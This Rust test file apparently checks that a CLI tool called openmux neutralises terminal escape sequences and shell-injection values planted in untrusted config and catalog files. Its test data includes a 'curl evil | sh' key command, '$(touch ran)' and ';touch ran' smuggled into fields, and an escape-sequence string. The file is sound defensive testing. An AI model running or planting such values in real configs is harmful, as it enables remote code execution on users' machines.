//! What a file that nobody has read can do to whoever runs openmux beside it: to the terminal, to the shell's line.

use serde_json::Value;

use super::super::support::command::{Home, Output};

/// Erases the line, sets the title, turns the text around, is not seen at all.
const NASTY: &str = "\\u001b[2K\\r\\u009b31m\\u202eevil\\u200b";

/// Whether a terminal gets nothing but what is seen.
fn is_plain(text: &str) -> bool {
    let hidden = |c: char| (c.is_control() && c != '\n') || ['\u{202e}', '\u{200b}'].contains(&c);
    !text.contains(hidden)
}

fn assert_plain(output: &Output, what: &str) {
    assert!(is_plain(&output.stdout) && is_plain(&output.stderr), "{what}: {:?}", output.snapshot());
}

#[test]
fn a_projects_file_cannot_steer_the_terminal() {
    let home = Home::new();
    let text = "[defaults]\nmodel = \"gpt!\"\n\n[aliases]\nodd = \"gpt!\"\n\n[providers.\"a!b\"]\nkey_cmd = [\"sh\", \"-c\", \
        \"curl evil | sh #! harmless\"]\n";
    home.write(".openmux.toml", &text.replace('!', NASTY));
    let quiet = ["config", "trust", "--dry-run", "-q"];
    for args in
        [&["models", "list", "--limit", "1", "-o", "table"][..], &["config", "show", "aliases", "-o", "table"], &quiet]
    {
        let output = home.openmux(args.iter().copied()).env("COLUMNS", "300").run();
        let said = [output.stdout.as_str(), &output.stderr].concat();
        assert!(said.contains('\u{241b}') && said.contains('\u{fffd}'), "{args:?} shows it: {}", output.snapshot());
        assert_plain(&output, &args.join(" "));
    }
    for format in ["wide", "md"] {
        assert_plain(&home.openmux(["config", "show", "-o", format]).run(), format);
    }
    assert_plain(&home.openmux(["chat", "hi"]).run(), "the error about the model");
    // Data is data.
    let json = home.openmux(["config", "show", "aliases.odd", "-o", "json"]).run();
    let document: Value = serde_json::from_str(&json.stdout).unwrap();
    assert_eq!(document["data"][0]["value"], "gpt\u{1b}[2K\r\u{9b}31m\u{202e}evil\u{200b}", "{}", json.snapshot());
}

#[test]
fn names_of_a_catalog_cannot_steer_the_terminal() {
    let home = Home::new();
    let text = "[provider.alpha]\nname = \"Alpha!\"\nprotocol = \"openai-chat\"\nbase_url = \"http://127.0.0.1:1/v1\"\n\n\
        [[endpoint]]\nprovider = \"alpha\"\nmodel = \"acme/tiny\"\nid = \"tiny\"\nregion = \"eu!\"\nquant = \"fp!\"\n\
        price = { input = \"1\", output = \"2\" }\n";
    home.write("config/catalog.d/a.toml", &text.replace('!', NASTY));
    let commands = [
        "models show acme/tiny -o wide",
        "models show acme/tiny --prices",
        "providers list alpha -o wide",
        "providers list alpha -o md",
        "providers compare acme/tiny --all -o wide",
        "route explain acme/tiny --all --quantization fp8 -v",
        "route explain acme/tiny --all --region require:us -v",
        "check acme/tiny --max-price-in 1 -o table",
    ];
    for command in commands {
        assert_plain(&home.openmux(command.split(' ')).run(), command);
    }
}

#[test]
fn what_is_completed_is_one_word_of_the_shell() {
    let home = Home::new();
    let overlay = |name: &str, variant: &str| {
        let text = format!(
            "[provider.alpha]\nname = \"{name}\"\nprotocol = \"openai-chat\"\nbase_url = \"http://127.0.0.1:1/v1\"\n\n\
             [[endpoint]]\nprovider = \"alpha\"\nmodel = \"acme/tiny\"\nid = \"tiny\"\nvariant = [\"{variant}\"]\n"
        );
        home.write("config/catalog.d/a.toml", &text);
    };
    // What is more than a word, or cannot be seen, is not read.
    for (name, variant) in [("Alpha", "$(touch ran)"), ("Alpha", "a;touch ran"), ("Alpha\\n$(touch ran)", "fine")] {
        overlay(name, variant);
        let refused = home.openmux(["models", "list"]).run();
        assert_eq!(refused.code, Some(5), "{name} {variant}: {}", refused.snapshot());
    }
    overlay("Alpha $(touch ran)", "fine");
    let fits = |shell: &str, words: &[&str]| {
        let args = ["completions", shell, "--"].into_iter().chain(words.iter().copied());
        home.openmux(args).run().stdout
    };
    let line = "openmux chat -m acme/tiny:";
    assert_eq!(fits("bash", &[line, "26", " \t\n\"'@><=;|&(:"]), "alpha\nfine\n");
    assert_eq!(fits("fish", &["chat", "-m", "acme/tiny:"]), "acme/tiny:alpha\nacme/tiny:fine\n");
    assert_eq!(fits("fish", &["chat", "--provider", "alpha"]), "alpha\tAlpha $(touch ran)\n");
    // A profile is called nothing else from the beginning.
    home.write("config/config.toml", "[profiles.\"$(touch ran)\"]\nregion = \"eu\"\n");
    let refused = home.openmux(["models", "list"]).run();
    assert_eq!(refused.code, Some(5), "{}", refused.snapshot());
    assert_eq!(fits("fish", &["chat", "--profile", ""]), "");
}
